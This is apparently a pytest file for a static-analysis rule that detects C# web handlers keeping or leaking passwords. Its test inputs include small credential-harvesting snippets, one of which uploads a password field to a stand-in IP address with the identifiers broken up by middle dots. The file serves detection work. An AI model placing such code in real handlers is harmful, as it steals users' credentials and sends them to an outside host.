"""Passwords that a library keeps."""

from __future__ import annotations

import pytest

from tests.builders.compiled import findings_of
from tests.persistence.rows_compiled import handler, seeing


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ('File.AppendAllText("a", r.Form["password"]);', "to a file"),
        ('new System.Net.WebCl·ient().Upl·oadString("http://192.0.2.1/", r["pwd"]);', "to another server"),
        ('all.Add(r.Headers["Authorization"]);', "in memory"),
    ],
)
def test_the_place_is_said(body: str, words: str) -> None:
    (finding,) = findings_of("WSH5008", seeing(body, "static List<string> all = new List<string>();"))
    assert words in finding.message


@pytest.mark.parametrize(
    "body",
    [
        'var all = new List<string>(); all.Add(r.Form["password"]);',
        'File.AppendAllText("a", r.Form["username"]);',
        'if (r.Form["password"].Length > 3) { File.AppendAllText("a", "long"); }',
    ],
)
def test_what_is_not_kept(body: str) -> None:
    assert findings_of("WSH5008", handler(body)) == []
